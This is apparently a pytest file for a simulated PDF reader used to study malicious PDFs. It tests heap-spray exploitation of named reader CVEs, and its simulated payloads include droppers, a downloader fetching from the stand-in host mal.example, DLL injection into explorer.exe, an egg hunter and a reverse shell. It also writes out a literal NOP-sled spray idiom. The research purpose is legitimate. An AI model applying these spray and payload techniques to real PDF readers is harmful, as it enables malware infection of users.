"""Unit/integration tests for the simulated PDF reader."""


from repro.corpus import js_snippets as js
from repro.pdf.builder import DocumentBuilder
from repro.reader import Reader
from repro.reader.exploits import CVE
from repro.reader.payload import Payload
from repro.winapi.process import ProcessState

import random


def spray_doc(spray_mb=150, cve=CVE.COLLAB_GET_ICON, payload=None, trigger="OpenAction"):
    builder = DocumentBuilder()
    builder.add_page("")
    rng = random.Random(5)
    code = js.spray_script(
        spray_mb,
        payload or Payload.dropper(),
        rng=rng,
        exploit_call=js.exploit_call_for(cve, rng),
    )
    builder.add_javascript(code, trigger=trigger)
    return builder.to_bytes()


class TestOpenBasics:
    def test_benign_open_runs_scripts(self, js_doc_bytes):
        reader = Reader()
        outcome = reader.open(js_doc_bytes)
        assert outcome.ok
        assert outcome.handle.alerts == ["x=2"]

    def test_parse_error_reported(self):
        reader = Reader()
        outcome = reader.open(b"not a pdf")
        assert outcome.parse_error is not None

    def test_render_memory_charged(self, simple_doc_bytes):
        reader = Reader()
        before = reader.process().memory_counters().private_usage
        reader.open(simple_doc_bytes)
        after = reader.memory_counters().private_usage
        assert after > before

    def test_close_frees_memory(self, simple_doc_bytes):
        reader = Reader()
        outcome = reader.open(simple_doc_bytes)
        opened = reader.memory_counters().private_usage
        reader.close(outcome.handle)
        assert reader.memory_counters().private_usage < opened
        assert not outcome.handle.open

    def test_script_error_does_not_crash_reader(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("this.definitely.not.there;")
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.ok
        assert outcome.handle.script_errors

    def test_names_scripts_run_before_open_action(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("app.alert('open');", trigger="OpenAction")
        builder.add_javascript("app.alert('names');", trigger="Names", name="a")
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.handle.alerts == ["names", "open"]

    def test_reader_respawned_after_crash(self):
        reader = Reader()
        crash = reader.open(spray_doc(spray_mb=1))  # too small: hijack miss
        assert crash.crashed
        again = reader.open(DocumentBuilder().to_bytes())
        assert again.ok
        assert reader.process().alive


class TestInfection:
    def test_successful_dropper(self):
        reader = Reader()
        outcome = reader.open(spray_doc())
        assert outcome.ok
        assert reader.system.filesystem.exists("C:\\Temp\\update.exe")
        names = [p.name for p in reader.system.processes.values()]
        assert "C:\\Temp\\update.exe" in names

    def test_insufficient_spray_crashes(self):
        reader = Reader()
        outcome = reader.open(spray_doc(spray_mb=8))
        assert outcome.crashed
        assert reader.current_process.state is ProcessState.CRASHED
        assert "unmapped memory" in outcome.crash_reason

    def test_bad_jump_payload_crashes(self):
        reader = Reader()
        outcome = reader.open(spray_doc(payload=Payload.bad_jump()))
        assert outcome.crashed
        assert "misaligned" in outcome.crash_reason

    def test_unaffected_version_is_inert(self):
        reader = Reader(version="9.0")
        outcome = reader.open(spray_doc(cve=CVE.UTIL_PRINTF))  # 8.x-only CVE
        assert outcome.ok
        assert not reader.system.filesystem.executables()

    def test_affected_version_8_printf(self):
        reader = Reader(version="8.0")
        outcome = reader.open(spray_doc(cve=CVE.UTIL_PRINTF))
        assert outcome.ok
        assert reader.system.filesystem.executables()

    def test_downloader_connects_out(self):
        reader = Reader()
        reader.open(spray_doc(payload=Payload.downloader("http://mal.example/s.exe", "C:\\s.exe")))
        hosts = [c.host for c in reader.system.network.connections]
        assert "mal.example" in hosts
        assert reader.system.filesystem.exists("C:\\s.exe")

    def test_dll_injection_hits_explorer(self):
        reader = Reader()
        reader.open(spray_doc(payload=Payload.dll_injector("C:\\e.dll")))
        explorer = next(
            p for p in reader.system.processes.values() if p.name == "explorer.exe"
        )
        assert explorer.has_module("C:\\e.dll")

    def test_egg_hunt_probes_and_drops(self):
        builder = DocumentBuilder()
        builder.add_page("")
        builder.add_embedded_file("egg.bin", b"MZ-egg-body")
        rng = random.Random(5)
        code = js.spray_script(
            150,
            Payload.egg_hunter("C:\\egg.exe"),
            rng=rng,
            exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
        )
        builder.add_javascript(code)
        reader = Reader()
        reader.open(builder.to_bytes())
        probes = [e for e in reader.gateway.log if e.category == "memory_search"]
        assert len(probes) >= 4
        assert reader.system.filesystem.read("C:\\egg.exe") == b"MZ-egg-body"

    def test_reverse_shell_listens_and_connects(self):
        reader = Reader()
        reader.open(spray_doc(payload=Payload.reverse_shell(5555)))
        kinds = {(c.kind, c.port) for c in reader.system.network.connections}
        assert ("listen", 5555) in kinds
        assert ("connect", 5555) in kinds

    def test_render_exploit_fires_out_of_js(self):
        builder = DocumentBuilder()
        builder.add_page("")
        builder.add_render_exploit(CVE.FLASH, "Flash")
        rng = random.Random(5)
        builder.add_javascript(js.spray_script(150, Payload.dropper(), rng=rng))
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.ok
        assert reader.system.filesystem.executables()

    def test_render_exploit_needs_spray(self):
        builder = DocumentBuilder()
        builder.add_page("")
        builder.add_render_exploit(CVE.FLASH, "Flash")
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.crashed  # hijack with no spray


class TestTimersAndEvents:
    def test_set_timeout_fires_on_pump(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("app.setTimeOut(\"app.alert('late');\", 1000);")
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.handle.alerts == []
        fired = reader.pump(5.0)
        assert fired == 1
        assert outcome.handle.alerts == ["late"]

    def test_clear_timeout_cancels(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript(
            "var t = app.setTimeOut(\"app.alert('nope');\", 1000); app.clearTimeOut(t);"
        )
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert reader.pump(5.0) == 0
        assert outcome.handle.alerts == []

    def test_interval_fires_repeatedly(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("app.setInterval(\"app.alert('tick');\", 1000);")
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        reader.pump(3.5)
        assert outcome.handle.alerts.count("tick") == 3

    def test_will_close_event(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript('this.setAction("WillClose", "app.alert(\'bye\');");')
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        reader.close(outcome.handle)
        assert outcome.handle.alerts == ["bye"]

    def test_export_data_object_drops_and_launches(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_embedded_file("inv.exe", b"MZ-invoice")
        builder.add_javascript('this.exportDataObject({cName: "inv.exe", nLaunch: 2});')
        reader = Reader()
        reader.open(builder.to_bytes())
        assert reader.system.filesystem.read("C:\\Temp\\inv.exe") == b"MZ-invoice"
        assert any(p.name == "C:\\Temp\\inv.exe" for p in reader.system.processes.values())


class TestAcrobatSurface:
    def test_doc_info_accessible_from_js(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.set_info(Title="The Title")
        builder.add_javascript("app.alert(this.info.Title + '|' + this.info.title);")
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.handle.alerts == ["The Title|The Title"]

    def test_num_pages(self):
        builder = DocumentBuilder()
        builder.add_page("1")
        builder.add_page("2")
        builder.add_javascript("app.alert('n=' + this.numPages);")
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.handle.alerts == ["n=2"]

    def test_net_http_throws_inside_document(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript(
            "try { Net.HTTP.request('http://x'); app.alert('no'); }"
            " catch (e) { app.alert('blocked'); }"
        )
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.handle.alerts == ["blocked"]

    def test_launch_url_not_a_syscall(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("app.launchURL('http://example.org');")
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.handle.external_launches == [("browser", "http://example.org")]
        assert not reader.system.network.connections

    def test_viewer_version_matches_reader(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("app.alert('v' + app.viewerVersion);")
        outcome = Reader(version="8.0").open(builder.to_bytes())
        assert outcome.handle.alerts == ["v8"]

    def test_soap_request_records_connect(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript(
            "SOAP.request({cURL: 'http://svc.example:8080/x', oRequest: {a: 1}});"
        )
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        assert outcome.handle.soap_messages == [("http://svc.example:8080/x", {"a": 1.0})]
        assert reader.system.network.connections[0].host == "svc.example"


def js_doc(code):
    builder = DocumentBuilder()
    builder.add_page("")
    builder.add_javascript(code)
    return builder.to_bytes()


class TestMemoryModel:
    def test_substr_copy_spray_charges_every_copy(self):
        """The spray idiom `m[i] = c.substr(0, c.length)` at top level
        charges 2 bytes per code unit of every copy and pools `c` once."""
        block = "var c = unescape('%u9090%u4141'); while (c.length < 5000) c += c; var m = [];"
        copies = 300
        handles = {}
        peaks = {}
        for n in (0, copies):
            reader = Reader()
            # Equal lengths, so both documents take the same render memory.
            outcome = reader.open(js_doc(
                block + f" for (var i = 0; i < {n:3}; i++) {{ m[i] = c.substr(0, c.length); }}"
            ))
            handles[n] = outcome.handle
            peaks[n] = reader.current_process.memory_counters().peak_working_set_size
        handle = handles[copies]
        c = handle.interpreter.global_env.lookup("c")
        copy_bytes = copies * 2 * len(c)
        assert len(c) == 8192
        assert handle.sprayed_bytes - handles[0].sprayed_bytes == copy_bytes
        assert handle.js_heap_bytes - handles[0].js_heap_bytes == copy_bytes
        assert peaks[copies] - peaks[0] == copy_bytes
        assert all(copy is c for copy in handle.interpreter.global_env.lookup("m").elements)
        assert sum(1 for entry in handle.spray_pool if entry is c) == 1

    def test_spray_visible_in_counters(self):
        reader = Reader()
        outcome = reader.open(spray_doc(spray_mb=120))
        assert outcome.handle.sprayed_bytes >= 110 * 1024 * 1024
        assert reader.memory_counters().private_usage >= 110 * 1024 * 1024

    def test_memopt_drop_at_threshold(self):
        builder = DocumentBuilder()
        builder.add_page("memopt")
        builder.set_info(Title="MEMOPT doc")
        data = builder.to_bytes()
        reader = Reader()
        peaks = []
        for _i in range(16):
            reader.open(data)
            peaks.append(reader.memory_counters().private_usage)
        # Memory grows, then drops when the 15th copy triggers the
        # optimisation (Fig. 8's anomaly), then resumes.
        assert peaks[14] < peaks[13]

    def test_linear_growth_without_memopt(self, simple_doc_bytes):
        reader = Reader()
        readings = []
        for _i in range(5):
            reader.open(simple_doc_bytes)
            readings.append(reader.memory_counters().private_usage)
        deltas = [b - a for a, b in zip(readings, readings[1:])]
        assert max(deltas) - min(deltas) <= 1024  # near-constant increments
